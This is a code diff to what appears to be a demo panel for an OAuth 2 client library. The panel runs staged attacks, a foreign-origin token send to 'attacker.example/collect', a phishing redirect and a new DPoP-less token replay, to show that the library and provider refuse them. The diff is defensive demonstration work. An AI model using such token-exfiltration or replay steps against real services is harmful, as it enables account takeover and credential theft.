@@ -13,6 +13,15 @@ const EVIL_RETURN_TO = '//evil.example/phish';
 /** Where an attacker would like the token sent. */
 export const FOREIGN_API = 'https://attacker.example/collect';
 
+/** The provider (not the library) refused what the attack sent: an HTTP status. */
+class ProviderRefusal extends Error {
+  /** @param {number} status */
+  constructor(status) {
+    super(`HTTP ${status}`);
+    this.status = status;
+  }
+}
+
 /**
  * An attack: its title, and the attempt. The attempt resolves to a sentence when it cannot
  * run yet (e.g. "log in first"), and throws what the library refused it with.
@@ -33,7 +42,7 @@ function craftedCallback(redirectUri, params) {
 /**
  * The OAuth 2 attacks, by button id.
  * @param {() => import('/pkg/dist/index.js').Client} client
- * @param {{ issuer: string, redirectUri: string }} config
+ * @param {{ issuer: string, redirectUri: string, dpop?: boolean }} config
  * @param {() => string | undefined} lastCallback the callback URL of this tab's login
  * @returns {Record<string, Attack>}
  */
@@ -61,6 +70,13 @@ export function oauth2Attacks(client, config, lastCallback) {
     'attack-origin': ['Send the token to another origin', async () => {
       await client().fetch(FOREIGN_API);
     }],
+    'attack-dpop': ['Replay the access token without its DPoP proof', async () => {
+      if (!config.dpop) return 'Turn on DPoP first (session panel).';
+      // What a thief would do with a copied token: present it without a proof of the key.
+      const token = await client().getAccessToken();
+      const response = await fetch(new URL('/me', config.issuer), { headers: { Authorization: `DPoP ${token}` } });
+      if (!response.ok) throw new ProviderRefusal(response.status);
+    }],
   };
 }
 
@@ -85,7 +101,9 @@ export function wireAttacks({ attacks, securityCount, securitySince, log }) {
           return;
         }
       } catch (error) {
-        outcome = describe(error);
+        outcome = error instanceof ProviderRefusal
+          ? { code: error.message, details: 'The provider refused the token: without a fresh proof signed by this browser\'s non-extractable key, a copied DPoP-bound token is useless.' }
+          : describe(error);
       }
       // Security events go out with the error; give their listeners a turn anyway.
       await Promise.resolve();
@@ -98,7 +116,7 @@ export function wireAttacks({ attacks, securityCount, securitySince, log }) {
         log('attack', `${title}: not refused!`);
       } else {
         item.dataset.code = outcome.code;
-        const known = outcome.code !== 'unexpected';
+        const known = outcome.code !== 'unexpected' && !outcome.code.startsWith('HTTP ');
         item.append(
           el('span', { className: 'title', text: `${title}: refused with ` }, el('code', { text: outcome.code })),
           el('span', { className: 'why', text: known ? explainError(outcome.code).sentence : outcome.details }),
